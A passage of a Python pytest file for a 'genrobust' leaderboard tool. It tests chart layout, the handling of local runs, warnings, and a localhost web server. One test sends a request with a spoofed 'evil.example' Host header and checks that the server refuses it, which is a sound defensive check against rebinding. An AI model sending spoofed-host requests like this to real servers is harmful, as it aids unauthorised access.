    edit("entry.json", set_at("model", bundled))(entry_folder(tmp_path))
    found = make_board([contender(entry) for entry in read_entries(tmp_path)])
    typed = commands(found, found.rows[0])
    assert "bench --suite digits --seed 0 --model leaderboard/entries/digits-v1/vae/" in typed
    assert "trust" not in typed


# ---- Trade-offs ----


@given(
    st.floats(-1e6, 1e6, allow_nan=False), st.floats(0, 1e6, allow_nan=False, allow_subnormal=False)
)
def test_ticks_enclose_what_they_measure(low: float, spread: float) -> None:
    high = low + spread
    found = ticks(low, high)
    slack = 1e-9 * max(1.0, abs(low), abs(high))
    assert found[0] <= low + slack
    assert found[-1] >= high - slack
    assert 2 <= len(found) <= 8
    assert found == sorted(set(found))


def test_a_model_without_a_measure_is_named(tmp_path: Path) -> None:
    fakes = [Fake("known", 0.5, 1), Fake("unknown", 0.3, 2, scores={"total_correlation": None})]
    charts = {chart.key: chart for chart in trade_offs(board_of(fakes, tmp_path))}
    assert [row.contender.id for row in charts["disentanglement"].missing] == ["unknown"]
    assert len(charts["quality"].dots) == 2
    assert len(charts["disentanglement"].dots) == 1


def extent(label: Label) -> tuple[float, float]:
    """Where a label begins and ends, its letters taken as 6.6 wide."""
    width = 6.6 * len(label.text)
    start = label.x - {"start": 0, "middle": width / 2, "end": width}[label.anchor]
    return start, start + width


def test_labels_do_not_overlap(tmp_path: Path) -> None:
    fakes = [Fake(f"model-{i}", 0.5, i) for i in range(12)]
    for chart in trade_offs(board_of(fakes, tmp_path)):
        labels = [dot.label for dot in chart.dots if dot.label is not None]
        assert labels
        for i, one in enumerate(labels):
            for other in labels[i + 1 :]:
                apart = abs(one.y - other.y) >= 15
                starts = [
                    x.x - (6.6 * len(x.text) if x.anchor == "end" else 0) for x in (one, other)
                ]
                left, right = sorted(zip(starts, (one, other), strict=True), key=lambda p: p[0])
                assert apart or left[0] + 6.6 * len(left[1].text) <= right[0] + 1


# ---- One's own runs ----


def test_own_runs_take_part_and_are_marked(entries: Path, tmp_path: Path) -> None:
    write_run(tmp_path / "digits-v1/mine", Fake("mine", 0.8, 11))
    write_run(tmp_path / "digits-v1/old", Fake("old", 0.5, 12), outcomes=False)
    write_run(tmp_path / "digits-v1/part", Fake("part", 0.99, 13, record={"official": False}))
    (found,) = boards_with_runs(entries, tmp_path)
    by_name = {row.contender.id: row for row in found.rows}
    assert by_name["yours/mine"].rank == 1
    assert by_name["yours/old"].standing == "without outcomes"
    assert by_name["yours/old"].rank is None
    assert by_name["yours/part"].standing == "not official"
    pages = dict(render([found]))
    assert "Yours, not submitted." in Page(pages["digits-v1/yours/mine/index.html"].decode()).text
    assert Page(pages["digits-v1/index.html"].decode()).text.count("yours, not submitted") == 3
    assert row_values(found, by_name["yours/old"])["standing"].startswith("yours")


def test_a_submitted_run_is_not_shown_twice(entries: Path, tmp_path: Path) -> None:
    (tmp_path / "run").mkdir()
    shutil.copy(entries / "digits-v1/strong/record.json", tmp_path / "run")
    (found,) = boards_with_runs(entries, tmp_path)
    assert len(found.rows) == len(FAKES)


def test_runs_of_one_name_have_pages_of_their_own(tmp_path: Path) -> None:
    write_run(tmp_path / "a/My VAE", Fake("vae", 0.5, 1))
    write_run(tmp_path / "b/my-vae", Fake("vae", 0.4, 2))
    (found,) = boards_with_runs(None, tmp_path)
    assert {row.contender.id for row in found.rows} == {"yours/my-vae", "yours/my-vae-2"}


def test_a_run_that_cannot_be_read_is_left_out_with_a_warning(tmp_path: Path) -> None:
    write_run(tmp_path / "good", Fake("good"))
    write_run(tmp_path / "other", Fake("other", 0.5, 5))
    (tmp_path / "bad").mkdir()
    (tmp_path / "bad/record.json").write_text('{"schema_version": 1}')
    (tmp_path / "other/outcomes.json").write_text((tmp_path / "good/outcomes.json").read_text())
    with pytest.warns(GenrobustWarning) as warned:
        (found,) = boards_with_runs(None, tmp_path)
    words = sorted(str(one.message) for one in warned)
    assert len(words) == 2
    assert "bad" in words[0]
    assert "outcomes.json' is not used" in words[1]
    assert {row.contender.id: row.standing for row in found.rows} == {
        "yours/good": "ranked",
        "yours/other": "without outcomes",
    }


def test_nothing_to_show_is_a_mistake(tmp_path: Path) -> None:
    with pytest.raises(GenrobustError, match="genrobust bench"):
        boards_with_runs(None, tmp_path / "none")


def test_serve_answers_on_this_machine_until_it_is_stopped(tmp_path: Path) -> None:
    write_run(tmp_path / "runs/mine", Fake("mine"))
    words = [sys.executable, "-m", "genrobust", "leaderboard", "serve", "--port", "0"]
    process = subprocess.Popen(
        [*words, "--runs", "runs"],
        cwd=tmp_path,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        env={**os.environ, "TMPDIR": str(tmp_path)},
    )
    assert process.stdout is not None
    assert process.stderr is not None
    try:
        url = process.stdout.readline().split()[0]
        assert url.startswith("http://127.0.0.1:")
        with urllib.request.urlopen(f"{url}digits-v1/index.html") as answer:
            assert "yours, not submitted" in answer.read().decode()
        port = url.rstrip("/").rpartition(":")[2]
        named = urllib.request.Request(url, headers={"Host": f"localhost:{port}"})
        with urllib.request.urlopen(named) as answer:
            assert answer.status == 200
        foreign = urllib.request.Request(url, headers={"Host": f"evil.example:{port}"})
        with pytest.raises(urllib.error.HTTPError, match="421"):
            urllib.request.urlopen(foreign)
        busy = CliRunner().invoke(
            app, ["leaderboard", "serve", "--port", port, "--runs", str(tmp_path / "runs")]
        )
        assert busy.exit_code == 2
        assert f"port {port} cannot be used" in busy.output
        process.send_signal(signal.SIGINT)
        assert process.wait(20) == 0
        assert process.stderr.read() == ""
    finally:
        process.kill()
    assert [path.name for path in tmp_path.iterdir()] == ["runs"]


def test_the_verdict_names_who_may_be_as_good() -> None:
    alone = make_board([made([None] * 60, "a"), made([0] * 60, "b")])
    assert board_verdict(alone) == "a leads with a robust area of 100.0%."
    tied = make_board([made([None] * 60, name) for name in "abc"])
    assert "2 others may be as good" in board_verdict(tied)


def test_pictures_are_of_the_first_eligible_source_of_each_class() -> None:
    outcomes = made([None] * 4).outcomes
    assert outcomes is not None
    shown = outcomes.model_copy(
        update={"labels": (3, 1, 3, 1), "eligible": (False, True, True, True)}
    )
    assert example_positions(shown) == (1, 2)


def test_port_must_be_one(tmp_path: Path) -> None:
    write_run(tmp_path / "mine", Fake("mine"))
    result = CliRunner().invoke(
        app, ["leaderboard", "serve", "--runs", str(tmp_path), "--port", "99999"]
    )
    assert result.exit_code == 2
    assert "65535" in result.output
